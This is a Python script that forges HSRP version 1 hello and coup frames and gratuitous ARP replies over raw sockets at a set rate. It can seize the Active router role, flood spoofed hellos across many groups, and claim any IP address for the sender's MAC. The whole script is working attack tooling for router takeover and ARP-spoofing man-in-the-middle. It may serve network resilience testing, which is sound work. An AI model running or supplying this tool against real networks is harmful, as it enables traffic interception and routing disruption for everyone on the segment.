#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A third machine on a segment that means no good: HSRP version 1 messages and ARP claims as whole frames, at a rate.

    speaker.py DEVICE hello RATE SECONDS GROUP PRIORITY [text KEY|md5]    says that it is Active, and coups
    speaker.py DEVICE storm RATE SECONDS GROUP text KEY                   hellos that authenticate, of a lower router: for
                                                                          GROUP, and as many for groups nobody has
    speaker.py DEVICE claim RATE SECONDS ADDRESS                          gratuitous ARP: ADDRESS is at my MAC address
It prints how many frames it sent."""
import os, random, socket, struct, subprocess, sys, time

VIRTUAL = {1: "9.1.1.37", 2: "10.1.1.254"}
HELLO, COUP, ACTIVE = 0, 1, 16


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def hsrp(opcode, state, group, priority, key):
    """Hello 15 ms and hold 50 ms cannot be said in seconds: version 1 says 1 and 3."""
    text = (key or "cisco").encode().ljust(8, b"\0") if key != "md5" else b"\0" * 8
    message = struct.pack("!BBBBBBBB8s4s", 0, opcode, state, 1, 3, priority, group, 0, text,
                          socket.inet_aton(VIRTUAL.get(group, "192.0.2.1")))
    if key == "md5":  # a digest that no key makes
        message += struct.pack("!BBBBH4sI16s", 4, 28, 1, 0, 0, b"\0" * 4, 0, os.urandom(16))
    return message


def frame(mac, source, message):
    udp = struct.pack("!HHHH", 1985, 1985, 8 + len(message), 0) + message
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0xc0, 20 + len(udp), 0, 0, 1, 17, 0, source,
                       socket.inet_aton("224.0.0.2"))
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return b"\x01\x00\x5e\x00\x00\x02" + mac + b"\x08\x00" + head + udp


def claim(mac, address):
    a = socket.inet_aton(address)
    return b"\xff" * 6 + mac + b"\x08\x06" + struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, mac, a, b"\0" * 6, a)


def frames(mac, source, kind, words):
    if kind == "claim":
        return [claim(mac, words[0])]
    group = int(words[0])
    if kind == "hello":
        key = words[3] if words[2] == "text" else words[2]
        return [frame(mac, source, hsrp(op, ACTIVE, group, int(words[1]), key)) for op in (HELLO, COUP)]
    out = []
    for state in (2, 4, 8, 16):  # Listen, Speak, Standby, Active
        for priority in (1, 50, 90):
            for g in (group, random.randrange(100, 256)):
                out.append(frame(mac, source, hsrp(HELLO, state, g, priority, words[2])))
    return out


def main():
    device, kind, rate, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3]), float(sys.argv[4])
    with open(f"/sys/class/net/{device}/address") as f:
        mac = bytes.fromhex(f.read().strip().replace(":", ""))
    text = subprocess.run(["ip", "-4", "-o", "addr", "show", "dev", device], capture_output=True, text=True, check=True).stdout
    source = socket.inet_aton(text.split(" inet ")[1].split("/")[0])
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((device, 0))
    ready = frames(mac, source, kind, sys.argv[5:])
    start, sent = time.monotonic(), 0
    while time.monotonic() - start < seconds:
        due = min(int((time.monotonic() - start) * rate) + 1, int(rate * seconds))
        for _ in range(due - sent):
            s.send(ready[sent % len(ready)])
            sent += 1
        time.sleep(min(1 / rate, 0.002))
    print(sent)


main()
